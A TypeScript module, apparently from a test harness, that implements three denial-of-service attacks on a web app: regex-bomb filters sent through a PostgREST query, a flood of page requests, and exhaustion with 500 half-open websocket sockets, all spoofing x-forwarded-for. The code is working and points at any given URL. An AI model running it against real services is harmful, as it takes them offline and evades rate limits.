import { once } from 'node:events'
import { Agent, get, type IncomingMessage } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

import type { Attack } from './attack.ts'

const ADDRESS = '198.51.100.9'
const REQUESTS_AT_ONCE = 12
const PAGES_AT_ONCE = 90
const SOCKETS = 500
/** The server gives a refused connection five seconds at most. */
const CLOSED_WITHIN_MS = 6_000

/** Every expression is new: Postgres caches compiled ones. */
type Expressions = (n: number) => readonly string[]

export const NESTED: Expressions = (n) => Array.from({ length: 60 }, (_, i) => `([[:alpha:]]{1,250}){1,40}q${n}x${i}`)
export const ALLOWED: Expressions = (n) =>
  Array.from({ length: 16 }, (_, i) => `${'[[:alpha:]]{1,50}[a-z]?'.repeat(2)}q${n}x${i}`)

export function attackByExpressions(expressions: Expressions): Attack {
  return async (target) => {
    const { url, anonKey, attacker } = target
    const headers = { apikey: anonKey, authorization: `Bearer ${attacker.token}`, 'x-forwarded-for': ADDRESS }
    return repeat(REQUESTS_AT_ONCE, async (n) => {
      const filters = expressions(n).map((expression) => `full_name.imatch."${expression}"`)
      const query = new URLSearchParams({ or: `(${filters.join(',')})` })
      const answer = await fetch(`${url}/rest/v1/profiles?${query}`, { headers })
      await answer.arrayBuffer()
      return answer.status
    })
  }
}

export const attackByPages: Attack = async ({ url }) => {
  const agent = new Agent({ keepAlive: true })
  // Not fetch, which would unpack every page: an attacker does not read them.
  const headers = { 'x-forwarded-for': ADDRESS, 'accept-encoding': 'br' }
  return repeat(PAGES_AT_ONCE, async (n) => {
    const [answer] = (await once(get(`${url}/pricing?r=${n}`, { agent, headers }), 'response')) as [IncomingMessage]
    await once(answer.resume(), 'end')
    return answer.statusCode ?? 0
  })
}

export const attackByRefusedSockets: Attack = async ({ url }) => {
  const { hostname, port } = new URL(url)
  const upgrade = `GET /nowhere HTTP/1.1\r\nHost: ${hostname}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`
  const open = new Set<Socket>()
  for (let i = 0; i < SOCKETS; i += 1) {
    const socket = connect({ port: Number(port), host: hostname, allowHalfOpen: true }, () => socket.write(upgrade))
    open.add(socket)
    socket.resume().on('error', () => open.delete(socket))
    if (i % 50 === 0) await sleep(10)
  }
  return {
    async stop() {
      const until = performance.now() + CLOSED_WITHIN_MS
      // A closed connection answers with a reset; a half-open one accepts every write.
      while (open.size > 0 && performance.now() < until) {
        for (const socket of open) socket.write('x')
        await sleep(100)
      }
      const left = open.size
      for (const socket of open) socket.destroy()
      return `${left} of ${SOCKETS} refused connections are still open`
    },
  }
}

/** Keeps a number of requests running, each followed by the next. */
async function repeat(atOnce: number, ask: (n: number) => Promise<number>): Promise<{ stop(): Promise<string> }> {
  const statuses = new Map<string, number>()
  let asked = 0
  let isStopped = false
  const work = async (): Promise<void> => {
    while (!isStopped) {
      const status = await ask(++asked).then(String, () => 'no answer')
      statuses.set(status, (statuses.get(status) ?? 0) + 1)
    }
  }
  const workers = Array.from({ length: atOnce }, work)
  return {
    async stop() {
      isStopped = true
      await Promise.all(workers)
      return [...statuses].map(([status, count]) => `${count} times ${status}`).join(', ')
    },
  }
}
